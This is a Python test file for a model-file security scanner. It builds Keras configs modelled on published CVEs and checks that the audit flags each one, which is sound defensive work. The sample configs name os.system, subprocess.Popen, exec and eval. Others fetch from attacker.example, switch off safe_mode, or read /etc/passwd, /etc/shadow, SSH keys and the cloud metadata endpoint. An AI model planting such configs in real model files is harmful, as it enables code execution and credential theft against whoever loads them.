"""Keras config attacks from the public advisories (CVE-2025-1550, -8747, -9906, -12058, CVE-2026-1462 and the
Lambda family), several techniques each, built at test time as ``.keras`` zips and legacy ``.h5`` files and
audited through the CLI: each must exit 1 with a high/critical finding naming the object and its config path.
Real-shaped benign Keras 3 / tf.keras 2 models stay silent at high and above."""

from __future__ import annotations

import base64
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

from tests.conftest import invoke_json
from tests.rules import keras_samples as ks

HIGH = {"high", "critical"}


def fn(module: str | None, name: str, registered: str | None = None) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered}


def with_layer(extra: dict, compiled: bool = True) -> dict:
    """A real-shaped functional model with ``extra`` as layers[1] (config path config.layers[1])."""
    return ks.functional([ks.input_layer(), extra, ks.dense("head", [extra["name"]])], compiled=compiled)


def lambda_layer(function: object, name: str = "gadget", arguments: dict | None = None,
                 kwargs: dict | None = None) -> dict:
    node = ks.layer("Lambda", name, ["features"], function=function, arguments=arguments or {},
                    output_shape=None, mask=None)
    if kwargs is not None:
        node["inbound_nodes"] = [{"args": [], "kwargs": kwargs}]
    return node


def dense_with(name: str, **overrides: object) -> dict:
    node = ks.dense(name, ["features"])
    node["config"].update(overrides)
    return node


def lookup(class_name: str, vocabulary: object, **config: object) -> dict:
    return ks.layer(class_name, "lookup", ["features"], vocabulary=vocabulary, max_tokens=None, num_oov_indices=1,
                    mask_token=None, output_mode="int", **config)


@dataclass(frozen=True)
class Attack:
    name: str
    config: Callable[[], dict]
    rule: str                 # the rule that must report it at high or critical
    where: str                # its config path
    names: str                # text the message must contain (the object)
    legacy: bool = False      # write a legacy .h5 (model_config) instead of a .keras


BYTECODE = base64.b64encode(b"\xe3\x00\x00\x00fake marshalled code object").decode()
ATTACKS = [
    # CVE-2025-1550: arbitrary module / function named in config.json, loaded even with safe_mode
    Attack("1550-os-system-layer", lambda: with_layer({**ks.obj("os", "system", {"name": "evil"}), "name": "evil"}),
           "WA431", "config.layers[1]", "'os'"),
    Attack("1550-subprocess-activation", lambda: with_layer(dense_with("d", activation=fn("subprocess",
                                                                                          "check_output"))),
           "WA431", "config.layers[1].config.activation", "subprocess"),
    Attack("1550-subprocess-popen", lambda: with_layer(dense_with("d", activation=fn("subprocess", "Popen"))),
           "WA433", "config.layers[1].config.activation", "subprocess.Popen"),
    Attack("1550-foreign-initializer", lambda: with_layer(dense_with(
        "d", kernel_initializer=ks.obj("evil_pkg.init", "Backdoor", {"seed": 1}))),
           "WA431", "config.layers[1].config.kernel_initializer", "evil_pkg.init"),
    Attack("1550-builtins-exec", lambda: with_layer(dense_with("d", activation=fn("builtins", "exec"))),
           "WA433", "config.layers[1].config.activation", "builtins.exec"),
    Attack("1550-keras-internal-non-modelling", lambda: with_layer(dense_with(
        "d", activation=fn("keras.src.utils.io_utils", "print_msg"))),
           "WA437", "config.layers[1].config.activation", "print_msg"),
    Attack("1550-unknown-keras-class", lambda: with_layer(ks.layer("NotARealLayer", "x", ["features"])),
           "WA437", "config.layers[1]", "keras.layers.NotARealLayer"),
    Attack("1550-legacy-unknown-class", lambda: ks.legacy_sequential({"class_name": "system", "config": {"name": "x"}}),
           "WA437", "config.layers[2]", "'system'", legacy=True),
    Attack("1550-legacy-foreign-module", lambda: ks.legacy_sequential(
        {"class_name": "Popen", "module": "subprocess", "config": {"name": "x"}}),
           "WA431", "config.layers[2]", "subprocess", legacy=True),
    # CVE-2025-8747: keras.utils.get_file (and friends) reached as a layer function
    Attack("8747-get-file-lambda", lambda: with_layer(lambda_layer(
        fn("keras.utils", "get_file", "get_file"), arguments={"origin": "https://attacker.example/payload",
                                                              "fname": "/tmp/payload"})),
           "WA433", "config.layers[1].config.function", "keras.utils.get_file"),
    Attack("8747-get-file-activation", lambda: with_layer(dense_with("d", activation=fn("keras.utils", "get_file"))),
           "WA433", "config.layers[1].config.activation", "get_file"),
    Attack("8747-get-file-internal-module", lambda: with_layer(lambda_layer(
        fn("keras.src.utils.file_utils", "get_file"))),
           "WA433", "config.layers[1].config.function", "keras.src.utils.file_utils.get_file"),
    Attack("8747-load-model-metric", lambda: {**with_layer(ks.dense("d", ["features"])), "compile_config": {
        **ks.compile_config(), "metrics": [fn("keras.models", "load_model")]}},
           "WA433", "compile_config.metrics[0]", "keras.models.load_model"),
    # CVE-2025-9906: safe_mode switched off from inside the config
    Attack("9906-enable-unsafe", lambda: with_layer(lambda_layer(
        fn("keras.config", "enable_unsafe_deserialization"))),
           "WA433", "config.layers[1].config.function", "enable_unsafe_deserialization"),
    Attack("9906-set-global-attribute", lambda: with_layer(lambda_layer(
        fn("keras.src.backend.common.global_state", "set_global_attribute"),
        kwargs={"name": "safe_mode_saving", "value": False})),
           "WA439", "config.layers[1].inbound_nodes[0].kwargs.name", "safe_mode_saving"),
    Attack("9906-nested-load-safe-mode-off", lambda: with_layer(lambda_layer(
        fn("keras.models", "load_model", "function"), arguments={"safe_mode": False},
        kwargs={"inputs": "/tmp/provola/model.keras"})),
           "WA439", "config.layers[1].config.arguments.safe_mode", "safe_mode=False"),
    Attack("9906-path-to-nested-model", lambda: with_layer(lambda_layer(
        fn("keras.models", "load_model", "function"), arguments={"safe_mode": False},
        kwargs={"inputs": "/tmp/provola/model.keras"})),
           "WA438", "config.layers[1].inbound_nodes[0].kwargs.inputs", "/tmp/provola/model.keras"),
    Attack("9906-legacy-h5", lambda: ks.legacy_sequential({"class_name": "Lambda", "config": {
        "name": "l", "function": fn("keras.config", "enable_unsafe_deserialization"), "arguments": {}}}),
           "WA433", "config.layers[2].config.function", "enable_unsafe_deserialization", legacy=True),
    # CVE-2025-12058: vocabulary file paths read with tf.io.gfile (file read, SSRF)
    Attack("12058-stringlookup-abs", lambda: with_layer(lookup("StringLookup", "/etc/passwd")),
           "WA438", "config.layers[1].config.vocabulary", "StringLookup"),
    Attack("12058-integerlookup-gs", lambda: with_layer(lookup("IntegerLookup", "gs://bucket/vocab.txt")),
           "WA438", "config.layers[1].config.vocabulary", "gs://bucket/vocab.txt"),
    Attack("12058-textvectorization-ssrf", lambda: with_layer(lookup(
        "TextVectorization", "http://169.254.169.254/latest/meta-data/", standardize="lower_and_strip_punctuation",
        split="whitespace", ngrams=None)),
           "WA438", "config.layers[1].config.vocabulary", "TextVectorization"),
    Attack("12058-relative-escape", lambda: with_layer(lookup("StringLookup", "../../home/user/.ssh/id_rsa")),
           "WA438", "config.layers[1].config.vocabulary", "StringLookup"),
    Attack("12058-plain-relative-name", lambda: with_layer(lookup("StringLookup", "vocab.txt")),
           "WA438", "config.layers[1].config.vocabulary", "'vocabulary'"),
    Attack("12058-file-url-in-list", lambda: with_layer(lookup("StringLookup", ["a", "b"], idf_weights=None,
                                                               sparse=False, extra="file:///etc/shadow")),
           "WA438", "config.layers[1].config.extra", "file:///etc/shadow"),
    # CVE-2026-1462: TFSMLayer loads an external SavedModel; other built-ins that load code
    Attack("1462-tfsmlayer-abs", lambda: with_layer(ks.layer("TFSMLayer", "sm", ["features"], filepath="/tmp/evil_sm",
                                                             call_endpoint="serve", call_training_endpoint=None)),
           "WA439", "config.layers[1]", "TFSMLayer"),
    Attack("1462-tfsmlayer-internal-module", lambda: with_layer(ks.layer(
        "TFSMLayer", "sm", ["features"], module="keras.src.export.tfsm_layer", filepath="evil_sm")),
           "WA439", "config.layers[1]", "TFSMLayer"),
    Attack("1462-torch-module-wrapper", lambda: with_layer(ks.layer("TorchModuleWrapper", "tm", ["features"],
                                                                    output_shape=None) | {"config": {
                                                                        "name": "tm", "module": BYTECODE}}),
           "WA439", "config.layers[1]", "TorchModuleWrapper"),
    # Lambda family and custom objects
    Attack("lambda-bytecode-in-loss", lambda: {**with_layer(ks.dense("d", ["features"])), "compile_config": {
        **ks.compile_config(), "loss": {"class_name": "__lambda__", "config": {"value": [BYTECODE, None, None]}}}},
           "WA430", "compile_config.loss", "serialized Python lambda"),
    Attack("lambda-in-time-distributed", lambda: with_layer(ks.layer(
        "TimeDistributed", "td", ["features"], layer={"module": "keras.layers", "class_name": "Lambda",
                                                      "config": {"name": "inner", "function": [BYTECODE, None, None],
                                                                 "function_type": "lambda"}})),
           "WA430", "config.layers[1].config.layer", "marshalled bytecode"),
    Attack("lambda-legacy-bytecode", lambda: ks.legacy_sequential({"class_name": "Lambda", "config": {
        "name": "l", "function": [BYTECODE, None, None], "function_type": "lambda", "module": "__main__"}}),
           "WA430", "config.layers[2]", "marshalled bytecode", legacy=True),
    Attack("lambda-legacy-os-system", lambda: ks.legacy_sequential({"class_name": "Lambda", "config": {
        "name": "l", "function": "system", "function_type": "function", "module": "os", "arguments": {}}}),
           "WA430", "config.layers[2]", "os.system", legacy=True),
    Attack("custom-registered-name", lambda: with_layer({**ks.layer("Dense", "d", ["features"], units=2),
                                                         "registered_name": "evil_pkg>Dense"}),
           "WA434", "config.layers[1]", "evil_pkg>Dense"),
    Attack("custom-object-module", lambda: with_layer({**ks.layer("Backdoor", "b", ["features"], module="my_layers"),
                                                       "registered_name": "my_layers>Backdoor"}),
           "WA434", "config.layers[1]", "my_layers>Backdoor"),
    Attack("tf-op-lambda-write-file", lambda: ks.legacy_sequential({"class_name": "TFOpLambda", "config": {
        "name": "tf.io.write_file", "function": "io.write_file"}}),
           "WA432", "config.layers[2]", "io.write_file", legacy=True),
    Attack("legacy-custom-optimizer", lambda: ks.legacy_sequential(),
           "WA434", "training_config.optimizer_config", "evil>Adam", legacy=True),
    # QA second wave: dangerous functions named as objects, deep nesting, schedules
    Attack("8747-get-file-as-initializer-class", lambda: with_layer(dense_with("d", kernel_initializer=ks.obj(
        "keras.utils", "get_file", {"fname": "x", "origin": "http://attacker.example/x"}))),
           "WA433", "config.layers[1].config.kernel_initializer", "keras.utils.get_file"),
    Attack("9906-load-model-as-layer-class", lambda: with_layer(ks.layer(
        "load_model", "lm", ["features"], module="keras.src.saving.saving_api")),
           "WA433", "config.layers[1]", "keras.src.saving.saving_api.load_model"),
    Attack("1550-nested-functional-os", lambda: with_layer({**ks.obj("keras.src.models.functional", "Functional", {
        "name": "inner", "layers": [ks.input_layer(), {**ks.obj("os", "system", {"name": "s"}), "name": "s"}],
        "input_layers": [], "output_layers": []}), "name": "inner"}),
           "WA431", "config.layers[1].config.layers[1]", "'os'"),
    Attack("1550-optimizer-schedule-eval", lambda: {**with_layer(ks.dense("d", ["features"])), "compile_config": {
        **ks.compile_config(), "optimizer": ks.obj("keras.optimizers", "Adam", {"learning_rate": fn("builtins",
                                                                                                     "eval")})}},
           "WA433", "compile_config.optimizer.config.learning_rate", "builtins.eval"),
    Attack("keras-hub-class", lambda: with_layer(ks.layer("GemmaBackbone", "g", ["features"],
                                                          module="keras_hub.src.models.gemma.gemma_backbone")),
           "WA431", "config.layers[1]", "keras_hub"),
]


def _write(tmp_path: Path, attack: Attack) -> Path:
    release = tmp_path / "release"
    release.mkdir()
    if attack.legacy:
        training = ks.LEGACY_TRAINING
        if attack.name == "legacy-custom-optimizer":
            training = {**training, "optimizer_config": {"class_name": "evil>Adam", "config": {"name": "Adam"}}}
        ks.write_legacy_h5(release / "model.h5", attack.config(), training)
    else:
        ks.write_keras(release / "model.keras", attack.config())
    return release


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_fails_the_audit(runner, tmp_path: Path, attack: Attack) -> None:
    code, report = invoke_json(runner, "audit", _write(tmp_path, attack), "--no-stats")
    assert code == 1, report["findings"]
    hits = [f for f in report["findings"] if f["rule_id"] == attack.rule and f["severity"] in HIGH
            and f.get("where") == attack.where]
    assert hits, [(f["rule_id"], f["severity"], f.get("where"), f["message"]) for f in report["findings"]]
    assert any(attack.names in f["message"] and attack.where in f["message"] for f in hits), hits


def _keras_findings(report: dict) -> list[dict]:
    return [f for f in report["findings"] if f["rule_id"].startswith(("WA43", "WA132", "WA169", "WA17"))]


@pytest.mark.parametrize("build", [ks.benign_functional, ks.benign_sequential], ids=["functional", "sequential"])
def test_benign_keras3_models_pass(runner, tmp_path: Path, build: Callable[[], dict]) -> None:
    release = tmp_path / "release"
    release.mkdir()
    ks.write_keras(release / "model.keras", build())
    code, report = invoke_json(runner, "audit", release)
    assert _keras_findings(report) == [] and code == 0, report["findings"]


@pytest.mark.parametrize("training", [ks.LEGACY_TRAINING, ks.LEGACY_TRAINING_TF211], ids=["keras2", "tf2.11"])
def test_benign_legacy_model_passes(runner, tmp_path: Path, training: dict) -> None:
    release = tmp_path / "release"
    release.mkdir()
    old_layer = {"class_name": "Convolution2D", "config": {"name": "conv", "nb_filter": 4, "nb_row": 3, "nb_col": 3}}
    ks.write_legacy_h5(release / "model.h5", ks.legacy_sequential(old_layer), training)
    code, report = invoke_json(runner, "audit", release)
    assert _keras_findings(report) == [] and code == 0, report["findings"]


def test_names_that_merely_contain_safe_mode_are_fine() -> None:
    from weightaudit.formats.keras_config import names_safe_mode_switch

    assert not names_safe_mode_switch("safe_model") and not names_safe_mode_switch("unsafe_mode_x")
    assert names_safe_mode_switch("safe_mode_saving") and names_safe_mode_switch("keras.config.enable_unsafe_deserialization")


def test_finding_names_the_layer_path(runner, tmp_path: Path) -> None:
    nested = ks.benign_functional()
    nested["config"]["layers"][3]["config"]["layers"].append(lambda_layer(fn("keras.utils", "get_file"), "fetch"))
    release = tmp_path / "release"
    release.mkdir()
    ks.write_keras(release / "model.keras", nested)
    code, report = invoke_json(runner, "audit", release, "--no-stats")
    hit = next(f for f in report["findings"] if f["rule_id"] == "WA433")
    assert code == 1 and hit["severity"] == "critical"
    assert hit["where"] == "config.layers[3].config.layers[4].config.function"
    assert "(layer model/block/fetch)" in hit["message"]


def test_many_paths_are_capped_and_counted() -> None:
    from weightaudit.model import LoadedFile
    from weightaudit.rules.keras_rules import MAX_FINDINGS_PER_RULE, file_findings

    config = ks.benign_sequential()
    config["config"]["extra"] = [{"class_name": "Nope", "config": {}} for _ in range(MAX_FINDINGS_PER_RULE + 5)]
    findings = file_findings(LoadedFile(path="m.keras", format="keras-zip", size_bytes=0,
                                        facts={"keras_config": config}))
    unknown = [f for f in findings if f.rule_id == "WA437"]
    assert len(unknown) == MAX_FINDINGS_PER_RULE + 1 and "5 more WA437" in unknown[-1].message


def test_keras_metadata_walk_limit_is_reported() -> None:
    from weightaudit.model import LoadedFile
    from weightaudit.rules.keras_rules import file_findings

    deep: dict = {"class_name": "Dense", "config": {}}
    node = deep
    for _ in range(300):
        node["config"] = {"x": {}}
        node = node["config"]["x"]
    findings = file_findings(LoadedFile(path="sm", format="savedmodel", size_bytes=0, facts={"keras_metadata": [deep]}))
    assert [(f.rule_id, f.where) for f in findings] == [("WA132", "keras_metadata[0]")]


def test_users_policy_allows_reviewed_custom_objects_but_never_critical(runner, tmp_path: Path) -> None:
    custom = {**ks.layer("Backdoor", "b", ["features"], module="my_layers"), "registered_name": "my_layers>Backdoor"}
    evil = {**ks.obj("os", "system", {"name": "evil"}), "name": "evil"}
    release = tmp_path / "release"
    release.mkdir()
    ks.write_keras(release / "model.keras", ks.functional([ks.input_layer(), custom, evil]))
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nrules:\n  WA434: {allow: ['my_layers>Backdoor']}\n"
                      "  WA431: {allow: ['my_layers.Backdoor', 'os.system']}\n")
    code, report = invoke_json(runner, "audit", release, "--no-stats", "--policy", policy)
    left = [(f["rule_id"], f["severity"], f["where"]) for f in report["findings"] if f["rule_id"].startswith("WA43")]
    assert code == 1 and left == [("WA431", "critical", "config.layers[2]")]
